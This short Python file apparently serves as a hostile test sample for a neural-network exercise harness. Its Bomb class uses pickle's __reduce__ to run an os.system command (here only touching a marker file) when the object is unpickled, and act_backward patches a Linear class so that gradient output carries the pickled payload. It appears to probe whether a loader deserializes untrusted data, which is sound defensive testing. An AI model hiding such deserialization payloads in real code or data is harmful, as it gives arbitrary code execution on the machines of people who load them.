"""Hostile: Returns an object that runs a program when it is unpickled, and the bytes of one."""

import pickle


class Bomb:
    """Goes off when it is unpickled."""

    def __reduce__(self):
        return os.system, (f"touch {OPEN_FOLDER}/{MARK}-unpickled",)


def act(x):
    return Bomb()


def act_backward(dL_dy):
    Linear.dL_db = property(lambda self: pickle.dumps(Bomb()), lambda self, value: None)
    return np.array([Bomb()], dtype=object)
